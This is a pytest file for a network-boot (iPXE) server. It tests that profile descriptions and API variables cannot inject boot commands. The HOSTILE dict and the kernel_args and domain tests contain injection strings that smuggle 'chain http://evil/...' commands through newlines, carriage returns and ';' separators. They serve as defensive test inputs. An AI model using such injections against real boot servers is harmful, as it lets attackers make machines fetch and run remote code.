"""Issue 20 through the machine-facing routes: a profile string with a control character (or an iPXE
separator word in a description) never reaches the menu served to unknown machines, the daemon refuses to
start naming ``profile.yaml:LINE: description``, and API-settable variables do not add boot commands."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from netboot.config import Config
from netboot.daemon import StartupError, build_daemon

from .conftest import BASE, MAC, UNKNOWN, RuntimeFactory, app_for, config_for, line_of, register

#: profile -> a description that would run ``chain http://evil/...`` in the menu if it were printed
HOSTILE = {
    "rocky9-kickstart": r"Rocky 9\nchain http://evil/x",
    "opensuse-autoyast": r"openSUSE\r\nchain http://evil/y",
    "solaris10-jumpstart": "Solaris 10 ; chain http://evil/z",
}


def boot(client: FlaskClient, mac: str) -> str:
    resp = client.get("/boot.ipxe", query_string={"mac": mac})
    assert resp.status_code == 200
    return resp.get_data(as_text=True)


def _poison(profiles: Path) -> dict[str, tuple[Path, int]]:
    """Give each HOSTILE profile its description; return where each one is (file, line)."""
    where = {}
    for name, description in HOSTILE.items():
        yaml = profiles / name / "profile.yaml"
        lines = [row for row in yaml.read_text().splitlines() if not row.startswith("description:")]
        yaml.write_text("\n".join([f'description: "{description}"', *lines]) + "\n")
        where[name] = (yaml, line_of(yaml, "description:"))
    return where


def _no_servers(tmp_path: Path, profiles: Path) -> Config:
    cfg = config_for(tmp_path, profiles_dir=profiles, tftp_enabled=False, http_enabled=False)
    return replace(cfg, dhcp=replace(cfg.dhcp, mode="off"))


def test_a_hostile_description_never_reaches_the_served_menu(
    make_runtime: RuntimeFactory, profiles_copy: Path
) -> None:
    where = _poison(profiles_copy)
    rt = make_runtime(unknown_default="menu", profiles_dir=profiles_copy)
    script = boot(app_for(rt).test_client(), UNKNOWN)
    assert "\nmenu " in script and "evil" not in script
    assert "item p-debian12-preseed Debian 12" in script  # the good profiles are still offered
    for name in HOSTILE:
        assert f"p-{name}" not in script
    # chain lines are the menu's own choices, to this server only
    chains = [row for row in script.splitlines() if row.lstrip().startswith("chain")]
    assert chains and all(row.startswith(f"chain {BASE}/boot.ipxe?mac={UNKNOWN}&profile=") for row in chains)
    # and the admin is told where: file, line, key
    for yaml, line in where.values():
        assert any(e.startswith(f"{yaml}:{line}: description: ") for e in rt.profile_errors), (
            rt.profile_errors
        )


def test_a_hostile_description_stops_the_daemon_from_starting(tmp_path: Path, profiles_copy: Path) -> None:
    where = _poison(profiles_copy)
    with pytest.raises(StartupError) as raised:
        build_daemon(_no_servers(tmp_path, profiles_copy))
    message = str(raised.value)
    yaml, line = where["rocky9-kickstart"]
    assert (
        f"{yaml}:{line}: description: must not contain control characters (newline, tab, ...): '\\n' at "
        "character 8" in message
    )
    yaml, line = where["opensuse-autoyast"]
    assert (
        f"{yaml}:{line}: description: must not contain control characters (newline, tab, ...): '\\r'"
        in message
    )
    yaml, line = where["solaris10-jumpstart"]
    assert (
        f"{yaml}:{line}: description: ';' as a word of its own separates commands in the iPXE boot menu"
        in message
    )
    assert "Traceback" not in message and "evil\n" not in message


def test_variables_from_the_api_do_not_add_boot_commands(make_runtime: RuntimeFactory) -> None:
    rt = make_runtime()
    hostile = {"kernel_args": "console=ttyS0 ; chain http://evil/a && chain http://evil/b # x"}
    register(rt, MAC, "debian12-preseed", "web1", variables=hostile)
    script = boot(app_for(rt).test_client(), MAC)
    (kernel,) = [row for row in script.splitlines() if row.startswith("kernel ")]
    assert kernel.endswith(" console=ttyS0 chain http://evil/a chain http://evil/b x")  # words, not commands
    assert not any(row.lstrip().startswith("chain") for row in script.splitlines())


def test_a_domain_variable_with_a_newline_is_a_500_not_a_command(make_runtime: RuntimeFactory) -> None:
    rt = make_runtime()
    register(
        rt,
        MAC,
        "debian12-preseed",
        "web1",
        variables={"domain": "lab.test\n", "kernel_args": ["chain", "http://evil/x"]},
        boot=False,
    )
    resp = app_for(rt).test_client().get("/boot.ipxe", query_string={"mac": MAC})
    assert resp.status_code == 500 and b"evil" not in resp.data
